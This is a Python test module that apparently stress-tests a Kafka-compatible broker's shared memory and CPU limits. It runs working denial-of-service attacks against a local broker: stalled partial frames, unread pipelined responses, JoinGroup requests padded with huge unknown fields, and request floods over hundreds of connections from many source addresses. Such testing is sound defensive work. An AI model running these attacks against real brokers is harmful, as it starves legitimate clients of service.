"""Attacks that fill a limit which clients share, from one connection, many connections or many addresses,
while the bystander produces 300 kB, commits offsets and fetches.
"""

from __future__ import annotations

import contextlib
import select
import selectors
import socket
import struct
import time
import urllib.request
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Final

from attack.attacks import (
    DESCRIBE_GROUPS,
    JOIN_GROUP,
    NOT_FILLED,
    TARGET,
    Attack,
    Target,
    await_coordinator,
    compact,
    unsigned_varint,
)
from brokerlab.raw_client import frame, request_header

ATTACK_S: Final = 20.0
USER, BYSTANDERS_USER, PASSWORD = "mallory", "alice", "secret"
METADATA, OFFSET_COMMIT = 3, 8
FLOOD_IN_FLIGHT: Final = 64
SYNC_GROUP, SASL_HANDSHAKE, SASL_AUTHENTICATE = 14, 17, 36
PLAIN_MODULE: Final = "org.apache.kafka.common.security.plain.PlainLoginModule"
CHART_LIMIT_MB: Final = 2_048
"""The memory of a broker in the chart (`broker.resources.limits.memory` in charts/tidelog/values.yaml)."""
MAX_CONNECTIONS: Final = 600
FILLED: Final = 0.75
"""The part of a limit that one client must fill at least. Brokers and other clients have an eighth each."""


def settings_with_login(port: int, sasl_address: str) -> dict[str, str]:
    """Returns the settings of a broker with a listener of its own for brokers, one for strangers and one for
    its two users.
    """
    return {
        "listeners": f"OPEN://127.0.0.1:{port},CLIENTS://{sasl_address},BROKERS://127.0.0.1:0",
        "listener.security.protocol.map": "OPEN:PLAINTEXT,CLIENTS:SASL_PLAINTEXT,BROKERS:PLAINTEXT",
        "inter.broker.listener.name": "BROKERS",
        "listener.name.clients.sasl.enabled.mechanisms": "PLAIN",
        "listener.name.clients.plain.sasl.jaas.config": (
            f'{PLAIN_MODULE} required user_{USER}="{PASSWORD}" user_{BYSTANDERS_USER}="{PASSWORD}";'
        ),
    }


def budget_metric(name: str) -> str:
    """Returns the metric of what clients hold of a budget."""
    return f'tidelog_budget_held{{budget="{name}"}}'


def held(metrics_address: str, names: Iterable[str]) -> dict[str, float]:
    """Returns the values of metrics, 0 for those that are not shown."""
    with urllib.request.urlopen(f"http://{metrics_address}/metrics", timeout=30) as answer:
        lines = [line.rsplit(" ", 1) for line in answer.read().decode().splitlines()]
    shown = {line[0]: float(line[1]) for line in lines if line[0].startswith("tidelog_budget_held")}
    return {name: shown.get(name, 0.0) for name in names}


def connect(address: tuple[str, int], source: str) -> socket.socket:
    connection = socket.create_connection(address, 5, source_address=(source, 0))
    connection.settimeout(5)
    return connection


def log_in(connection: socket.socket) -> None:
    """Logs in as USER."""
    token = f"\0{USER}\0{PASSWORD}".encode()
    for key, version, body in (
        (SASL_HANDSHAKE, 1, struct.pack(">h", 5) + b"PLAIN"),
        (SASL_AUTHENTICATE, 0, struct.pack(">i", len(token)) + token),
    ):
        connection.sendall(frame(request_header(key, version, 1, False) + body))
        read_frame(connection)


def source_addresses(count: int) -> list[str]:
    return [f"127.0.{1 + number // 250}.{1 + number % 250}" for number in range(count)]


def hold_frames(
    target: Target,
    count: int,
    frame_bytes: int,
    sent_bytes: int,
    bytes_per_second: float = float("inf"),
    addresses: int = 1,
    *,
    logs_in: bool = False,
) -> str:
    """Holds frames that never end over many connections, and opens those again that the broker closes."""
    count, sources = target.count(count) if count > 10 else count, source_addresses(addresses)
    where = target.sasl_address if logs_in else target.broker.bootstrap
    host, port = where.rsplit(":", 1)
    until = time.monotonic() + max(ATTACK_S * target.scale, 3)
    began, sent, opened, closed = time.monotonic(), 0, 0, 0
    chunk = bytes(64 * 1024)
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        left: dict[socket.socket, int] = {}
        while time.monotonic() < until:
            while len(left) < count:
                connection = stack.enter_context(connect((host, int(port)), sources[opened % len(sources)]))
                opened += 1
                try:
                    if logs_in:
                        log_in(connection)
                    connection.sendall(struct.pack(">i", frame_bytes))
                except OSError:
                    connection.close()
                    break
                connection.setblocking(False)
                left[connection] = sent_bytes
                selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
            for key, events in selector.select(0.05):
                connection = key.fileobj  # type: ignore[assignment]
                try:
                    if events & selectors.EVENT_READ and not connection.recv(1):
                        raise ConnectionResetError
                    may_send = sent <= bytes_per_second * (time.monotonic() - began)
                    if events & selectors.EVENT_WRITE and may_send:
                        size = connection.send(chunk[: min(len(chunk), left[connection])])
                        sent += size
                        left[connection] -= size
                        if not left[connection]:
                            selector.modify(connection, selectors.EVENT_READ)
                except OSError:
                    closed += 1
                    selector.unregister(connection)
                    connection.close()
                    del left[connection]
            time.sleep(0.005)
    return f"{sent / 1e6:,.0f} MB sent over {count} connections; {closed:,} closed"


@contextlib.contextmanager
def large_group(
    target: Target, group_id: str, members: int = 15, member_bytes: int = 1_000_000
) -> Iterator[None]:
    """Keeps a stable group whose description has as many megabytes as it has members."""
    await_coordinator(target, group_id)
    host, port = target.broker.bootstrap.rsplit(":", 1)
    name = struct.pack(">h", len(group_id)) + group_id.encode()
    join = (
        name
        + struct.pack(">iih", 300_000, 300_000, 0)
        + struct.pack(">h8sih5si", 8, b"consumer", 1, 5, b"range", member_bytes)
    )
    with contextlib.ExitStack() as stack:
        joined = [stack.enter_context(connect((host, int(port)), "127.0.1.1")) for _ in range(members)]
        for connection in joined:
            connection.settimeout(60)
            connection.sendall(frame(request_header(JOIN_GROUP, 2, 1, False) + join + bytes(member_bytes)))
        for connection in joined:
            answer = read_frame(connection)
            code, generation = struct.unpack_from(">hi", answer, 8)
            assert not code, code
            at = 14
            texts = []
            for _ in range(3):  # protocol, leader, member
                (size,) = struct.unpack_from(">h", answer, at)
                texts.append(answer[at : at + 2 + size])
                at += 2 + size
            sync = name + struct.pack(">i", generation) + texts[2] + struct.pack(">i", 0)
            connection.sendall(frame(request_header(SYNC_GROUP, 1, 2, False) + sync))
        for connection in joined:
            read_frame(connection)
        yield


def read_frame(connection: socket.socket) -> bytes:
    (size,) = struct.unpack(">i", _read(connection, 4))
    return _read(connection, size)


def _read(connection: socket.socket, size: int) -> bytes:
    data = bytearray()
    while len(data) < size:
        part = connection.recv(size - len(data))
        if not part:
            raise ConnectionResetError("the broker closed the connection")
        data += part
    return bytes(data)


def leave_unread(target: Target, count: int, addresses: int = 1, *, logs_in: bool = False) -> str:
    """Asks for descriptions of a large group over many connections and reads none of them."""
    sources = source_addresses(addresses)
    where = target.sasl_address if logs_in else target.broker.bootstrap
    host, port = where.rsplit(":", 1)
    ask = frame(request_header(DESCRIBE_GROUPS, 0, 1, False) + struct.pack(">ih5s", 1, 5, b"large")) * 64
    opened = closed = 0
    with large_group(target, "large"), contextlib.ExitStack() as stack:
        until = time.monotonic() + max(ATTACK_S * target.scale, 5)
        asking: list[socket.socket] = []
        while time.monotonic() < until:
            while len(asking) < target.count(count):
                connection = stack.enter_context(connect((host, int(port)), sources[opened % len(sources)]))
                opened += 1
                with contextlib.suppress(OSError):
                    if logs_in:
                        log_in(connection)
                    connection.sendall(ask)
                asking.append(connection)
            time.sleep(0.2)
            gone = [connection for connection in asking if _has_ended(connection)]
            closed += len(gone)
            asking = [connection for connection in asking if connection not in gone]
    return f"{opened:,} connections opened, {closed:,} closed"


JOIN_SIZES: Final = (
    *[7_900_000] * 15,
    *[1_000_000] * 4,
    *[100_000] * 10,
    *[10_000] * 10,
    *[500] * 30,
    *[0] * 40,
)
"""The bytes of the joins. Each fills what the larger ones have left."""


CALLS_BYTES: Final = 64 * 2**20


def park_joins(
    target: Target, addresses: int = 1, *, logs_in: bool = False, sizes: Sequence[int] = JOIN_SIZES
) -> str:
    """Parks joins with unknown tagged fields of these sizes for weeks, then closes their connections."""
    sources = source_addresses(addresses)
    where = target.sasl_address if logs_in else target.broker.bootstrap
    host, port = where.rsplit(":", 1)
    sent = 0
    with large_group(target, "parked", 1, 10), contextlib.ExitStack() as stack:
        for number, size in enumerate(sizes):
            connection = stack.enter_context(connect((host, int(port)), sources[number % len(sources)]))
            if logs_in:
                log_in(connection)
            body = compact("parked") + struct.pack(">ii", 300_000, 2**31 - 1) + compact("")
            body += compact(f"i{number}") + compact("consumer") + b"\2" + compact("range") + b"\2x\0"
            body += b"\1" + unsigned_varint(100) + unsigned_varint(size) + bytes(size)
            with contextlib.suppress(OSError):
                connection.sendall(frame(request_header(JOIN_GROUP, 6, 1, True) + body))
                sent += 1
        time.sleep(5)
        (held_bytes,) = held(target.metrics_address, [budget_metric("coordinator_calls")]).values()
        stack.pop_all().close()
        time.sleep(5)
    state = "" if held_bytes >= FILLED * CALLS_BYTES else NOT_FILLED
    return f"{state}{held_bytes / 1e6:,.0f} of {CALLS_BYTES / 1e6:,.0f} MB held; {sent} joins sent"


def joins_over_many_connections(target: Target) -> list[int]:
    """Returns the sizes of joins over 600 connections, of which each has the same part of the limit."""
    count = target.count(MAX_CONNECTIONS)
    return [CALLS_BYTES // count] * count


def commit_offset(target: Target) -> bytes:
    """Returns the commit of an offset of TARGET by the group `flood`, outside of a member."""
    await_coordinator(target, "flood")
    topic = struct.pack(f">h{len(TARGET)}s", len(TARGET), TARGET.encode())
    body = struct.pack(">h5sihq", 5, b"flood", -1, 0, -1)  # no member, no retention time
    body += struct.pack(">i", 1) + topic + struct.pack(">iiqh", 1, 0, 1, 0)  # offset 1, no metadata
    return frame(request_header(OFFSET_COMMIT, 2, 1, False) + body)


def describe_topic(target: Target) -> bytes:
    """Returns a question for the leader of TARGET."""
    topic = struct.pack(f">ih{len(TARGET)}s", 1, len(TARGET), TARGET.encode())
    return frame(request_header(METADATA, 1, 1, False) + topic)


def flood(
    target: Target, request_of: Callable[[Target], bytes], addresses: int = 1, *, logs_in: bool = False
) -> str:
    """Sends one small request over many connections as fast as the broker answers, FLOOD_IN_FLIGHT at a time
    in each.
    """
    count, sources = target.count(MAX_CONNECTIONS), source_addresses(addresses)
    host, port = (target.sasl_address if logs_in else target.broker.bootstrap).rsplit(":", 1)
    request = request_of(target)
    answered = closed = 0
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        for number in range(count):
            connection = stack.enter_context(connect((host, int(port)), sources[number % len(sources)]))
            if logs_in:
                log_in(connection)
            connection.sendall(request * FLOOD_IN_FLIGHT)
            selector.register(connection, selectors.EVENT_READ, bytearray())
        until = time.monotonic() + max(ATTACK_S * target.scale, 5)
        while time.monotonic() < until and selector.get_map():
            for key, _ in selector.select(0.05):
                connection, received = key.fileobj, key.data
                assert isinstance(connection, socket.socket)
                try:
                    if not (data := connection.recv(1 << 16)):
                        raise ConnectionResetError
                    received += data
                    ended = complete_frames(received)
                    answered += ended
                    connection.sendall(request * ended)
                except OSError:
                    closed += 1
                    selector.unregister(connection)
    state = "" if answered > 10 * count else NOT_FILLED
    return f"{state}{answered:,} requests answered over {count} connections; {closed:,} closed"


def complete_frames(received: bytearray) -> int:
    """Removes the complete frames from the start of `received` and returns their number."""
    count = at = 0
    while len(received) >= at + 4:
        (size,) = struct.unpack_from(">i", received, at)
        if len(received) < at + 4 + size:
            break
        at += 4 + size
        count += 1
    del received[:at]
    return count


def _has_ended(connection: socket.socket) -> bool:
    """Returns whether the broker has closed the connection, without reading from it."""
    poller = select.poll()
    poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    return bool(poller.poll(0))


def _holding(
    name: str, title: str, run: Callable[[Target], str], bound_mb: float = CHART_LIMIT_MB - 256
) -> Attack:
    return Attack(name, title, run, bound_mb=bound_mb, fills=True)


def _flooding(name: str, title: str, run: Callable[[Target], str]) -> Attack:
    """Returns an attack with work that takes all CPU time. A job of the bystander takes several turns of the
    event loop, and waits in each for the turns of the attacker.
    """
    title = f"{title} as fast as they can, {FLOOD_IN_FLIGHT} at a time"
    return Attack(name, title, run, bound_mb=CHART_LIMIT_MB - 256, fills=True, least_p99_ms=100.0)


FILLING_ATTACKS: Final = (
    _holding(
        "memory-3",
        "3 connections that send 99 of 100 MB",
        lambda target: hold_frames(target, 3, 100_000_000, 99_000_000),
    ),
    _holding(
        "memory-600",
        "600 connections without a login that stall in requests of 500 kB, at 32 MB/s",
        lambda target: hold_frames(target, MAX_CONNECTIONS, 500_000, 499_000, 32e6),
    ),
    _holding(
        "memory-user",
        "a user who stalls in 600 requests of 2 MB from 200 addresses",
        lambda target: hold_frames(
            target, MAX_CONNECTIONS, 2_000_000, 1_900_000, addresses=200, logs_in=True
        ),
    ),
    _holding(
        "unread-1",
        "64 DescribeGroups of a group with 15 MB in one connection that reads nothing",
        lambda target: leave_unread(target, 1),
    ),
    _holding(
        "unread-600",
        "the same in 600 connections",
        lambda target: leave_unread(target, MAX_CONNECTIONS),
    ),
    _holding(
        "unread-user",
        "the same in 200 connections of a user with 200 addresses",
        lambda target: leave_unread(target, 200, addresses=200, logs_in=True),
    ),
    _holding(
        "calls",
        "15 joins of a group with 8 MB of unknown fields, and smaller ones; connections close after 5 s",
        park_joins,
    ),
    _holding(
        "calls-600",
        "joins with 110 kB of unknown fields over 600 connections, which close after 5 s",
        lambda target: park_joins(target, sizes=joins_over_many_connections(target)),
    ),
    _holding(
        "calls-user",
        "the same from 15 addresses of a user",
        lambda target: park_joins(target, 15, logs_in=True),
    ),
    _flooding(
        "commits-600",
        "600 connections that commit offsets",
        lambda target: flood(target, commit_offset),
    ),
    _flooding(
        "commits-user",
        "a user with 200 addresses and 600 connections that commit offsets",
        lambda target: flood(target, commit_offset, 200, logs_in=True),
    ),
    _flooding(
        "metadata-600",
        "600 connections that ask for the leader of a partition",
        lambda target: flood(target, describe_topic),
    ),
)
